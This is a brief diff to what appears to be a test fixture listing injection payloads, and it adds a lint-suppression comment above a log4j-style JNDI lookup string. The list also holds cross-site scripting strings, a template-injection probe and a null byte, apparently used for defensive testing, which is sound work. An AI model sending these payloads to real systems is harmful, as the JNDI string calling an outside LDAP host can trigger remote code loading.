@@ -53,6 +53,7 @@ export const INJECTIONS = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   'javascript:alert(1)',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup string, sent as data on purpose
   '${jndi:ldap://example.com/a}',
   '{{7*7}}',
   '%00',
